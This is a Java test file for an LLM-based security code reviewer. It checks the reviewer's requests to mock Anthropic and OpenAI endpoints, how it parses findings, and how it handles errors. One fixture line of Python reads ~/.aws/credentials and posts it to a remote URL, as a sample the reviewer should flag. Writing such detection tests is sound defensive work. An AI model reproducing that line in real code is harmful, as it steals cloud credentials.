package dev.corral.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.corral.core.ConfigException;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The LLM reviewer against a fake endpoint on 127.0.0.1 that checks the request shape. */
class LlmReviewTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String FINDINGS =
      "Here you go:\n```json\n{\"findings\":[{\"severity\":\"block\",\"path\":\"src/a.py\",\"line\":2,"
          + "\"message\":\"sends ~/.aws to a remote host\",\"hint\":\"remove it\"}]}\n```";

  private HttpServer server;
  private final List<JsonNode> bodies = new CopyOnWriteArrayList<>();
  private final List<Map<String, List<String>>> headers = new CopyOnWriteArrayList<>();
  private volatile int status = 200;
  private volatile String answer = "";

  @BeforeEach
  void start() throws IOException {
    server =
        HttpServer.create(new InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
    server.createContext(
        "/",
        exchange -> {
          bodies.add(JSON.readTree(exchange.getRequestBody()));
          headers.add(Map.copyOf(exchange.getRequestHeaders()));
          byte[] out = answer.getBytes(StandardCharsets.UTF_8);
          exchange.sendResponseHeaders(status, out.length);
          exchange.getResponseBody().write(out);
          exchange.close();
        });
    server.start();
  }

  @AfterEach
  void stop() {
    server.stop(0);
  }

  private String url(String path) {
    return "http://127.0.0.1:" + server.getAddress().getPort() + path;
  }

  private ReviewReport review(LlmSettings llm, Map<String, String> env) {
    return Review.run(
        List.of(
            Changes.added(
                "src/a.py",
                "import os\nrequests.post(URL, open(HOME + '/.aws/credentials').read())\n")),
        ReviewSettings.DEFAULT.withLlm(llm),
        env);
  }

  @Test
  void anthropicRequestShapeAndFindings() {
    answer = "{\"content\":[{\"type\":\"text\",\"text\":" + quote(FINDINGS) + "}]}";
    LlmSettings llm =
        LlmSettings.of("anthropic", url("/v1/messages"), "claude-test", "TEST_KEY", "");
    ReviewReport report = review(llm, Map.of("TEST_KEY", "sk-test-123"));

    JsonNode body = bodies.getFirst();
    assertThat(body.path("model").asText()).isEqualTo("claude-test");
    assertThat(body.path("system").asText()).contains("security reviewer");
    assertThat(body.path("max_tokens").asInt()).isPositive();
    assertThat(body.path("messages").path(0).path("role").asText()).isEqualTo("user");
    assertThat(body.path("messages").path(0).path("content").asText())
        .contains("### ADDED src/a.py")
        .contains("+import os");
    assertThat(headers.getFirst().get("X-api-key")).containsExactly("sk-test-123");
    assertThat(headers.getFirst().get("Anthropic-version")).containsExactly("2023-06-01");
    assertThat(Changes.findings(report, "llm"))
        .containsExactly(
            new Finding(
                Severity.BLOCK,
                "llm",
                "src/a.py",
                2,
                "sends ~/.aws to a remote host",
                "remove it"));
    assertThat(report.notes()).contains("LLM review (claude-test): 1 findings");
  }

  @Test
  void openAiRequestShapeAndFindings(@TempDir Path dir) throws IOException {
    answer =
        "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":"
            + quote(FINDINGS)
            + "}}]}";
    Path keyFile = dir.resolve("key");
    Files.writeString(keyFile, "sk-file-key\n");
    LlmSettings llm =
        LlmSettings.of("openai", url("/v1/chat/completions"), "gpt-test", "", keyFile.toString());
    ReviewReport report = review(llm, Map.of());

    JsonNode body = bodies.getFirst();
    assertThat(body.path("model").asText()).isEqualTo("gpt-test");
    assertThat(body.path("messages").path(0).path("role").asText()).isEqualTo("system");
    assertThat(body.path("messages").path(1).path("role").asText()).isEqualTo("user");
    assertThat(headers.getFirst().get("Authorization")).containsExactly("Bearer sk-file-key");
    assertThat(Changes.findings(report, "llm")).hasSize(1);
  }

  @Test
  void malformedAnswerBecomesANoteNotACrash() {
    answer = "{\"content\":[{\"type\":\"text\",\"text\":\"I think it looks fine!\"}]}";
    LlmSettings llm = LlmSettings.of("anthropic", url("/v1/messages"), "m", "K", "");
    ReviewReport report = review(llm, Map.of("K", "k"));
    assertThat(Changes.findings(report, "llm")).isEmpty();
    assertThat(report.notes())
        .anySatisfy(
            n ->
                assertThat(n)
                    .startsWith(
                        "LLM review: the answer from "
                            + url("/v1/messages")
                            + " was not the JSON asked for"));

    answer = "not json at all";
    assertThat(review(llm, Map.of("K", "k")).notes())
        .anySatisfy(n -> assertThat(n).startsWith("LLM review failed:").contains("not JSON"));
  }

  @Test
  void httpErrorBecomesANote() {
    status = 401;
    answer = "{\"error\":\"invalid x-api-key\"}";
    LlmSettings llm = LlmSettings.of("anthropic", url("/v1/messages"), "m", "K", "");
    assertThat(review(llm, Map.of("K", "bad")).notes())
        .anySatisfy(n -> assertThat(n).contains("HTTP 401").contains("invalid x-api-key"));
  }

  @Test
  void missingKeyIsAConfigErrorNamingTheVariable() {
    LlmSettings llm = LlmSettings.of("anthropic", url("/v1/messages"), "m", "NO_SUCH_KEY", "");
    assertThatThrownBy(() -> review(llm, Map.of()))
        .isInstanceOf(ConfigException.class)
        .hasMessage("review.llm.key_env: environment variable NO_SUCH_KEY is not set");
    assertThat(bodies).isEmpty();
  }

  @Test
  void badSettingsNameTheKey() {
    assertThatThrownBy(() -> LlmSettings.of("gemini", url("/"), "m", "K", ""))
        .hasMessage("review.llm.api: unknown API 'gemini'");
    assertThatThrownBy(() -> LlmSettings.of("openai", "ftp://x/", "m", "K", ""))
        .hasMessageStartingWith("review.llm.url:");
    assertThatThrownBy(() -> LlmSettings.of("openai", url("/"), "m", "K", "/k"))
        .hasMessage("review.llm: set exactly one of key_env and key_file");
  }

  @Test
  void diffSentIsCappedAndSaysSo() {
    answer = "{\"content\":[{\"type\":\"text\",\"text\":\"{\\\"findings\\\":[]}\"}]}";
    LlmSettings base = LlmSettings.of("anthropic", url("/v1/messages"), "m", "K", "");
    LlmSettings llm =
        new LlmSettings(base.api(), base.url(), base.model(), base.key(), 1000, base.timeout());
    String big = "x = 1\n".repeat(10_000);
    ReviewReport report =
        Review.run(
            List.of(Changes.added("a.py", big), Changes.added("b.py", big)),
            ReviewSettings.DEFAULT.withLlm(llm),
            Map.of("K", "k"));
    assertThat(bodies.getFirst().path("messages").path(0).path("content").asText().length())
        .isLessThan(1100);
    assertThat(report.notes())
        .contains("LLM review saw only the first 1000 bytes of the diff (1 of 2 files)");
  }

  private static String quote(String s) {
    try {
      return JSON.writeValueAsString(s);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
